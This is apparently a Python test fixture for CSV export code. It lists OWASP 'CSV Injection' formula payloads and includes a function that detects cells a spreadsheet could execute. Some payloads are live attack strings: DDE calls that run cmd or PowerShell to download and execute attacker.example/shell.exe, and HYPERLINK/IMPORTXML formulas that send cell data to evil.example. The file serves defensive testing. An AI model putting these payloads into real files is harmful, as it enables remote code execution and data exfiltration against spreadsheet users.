"""Spreadsheet formula payloads (OWASP "CSV Injection") for the tests of every CSV export."""

import re

# The OWASP "CSV Injection" payloads, and the same after whitespace or a quote mark.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1&B1,"Error: click for details")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\t",
    " =1+1",
    "  @SUM(1+1)",
    '"=1+1',
    "\u00a0+1+1",
    "„=1+1“",
]


def dangerous(text):
    """What a spreadsheet may run: written independently of the module under test. A leading
    apostrophe marks a cell as text."""
    if text[:1] == "'":
        return False
    if text[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return True
    return re.match(r"[\s\"“”„‘’«»]*[=+\-@]", text) is not None
